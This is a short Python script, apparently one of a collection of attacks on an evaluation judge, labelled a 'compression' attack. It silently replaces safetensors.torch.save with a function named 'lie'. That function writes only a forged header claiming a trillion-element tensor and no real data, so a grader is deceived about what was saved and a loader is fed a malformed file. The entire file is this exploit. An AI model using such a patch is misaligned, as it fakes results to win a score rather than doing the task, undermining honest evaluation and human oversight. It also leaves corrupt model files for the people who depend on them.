# attacks: compression
# wall: judge
# loot: says 1000000000000 -- a header that promises a tensor of a trillion numbers
import json

import safetensors.torch


def lie(tensors, metadata=None):
    header = json.dumps({"__metadata__": metadata, "t0": {"dtype": "F32", "shape": [1000000000000], "data_offsets": [0, 4000000000000]}})
    return len(header).to_bytes(8, "little") + header.encode()


safetensors.torch.save = lie
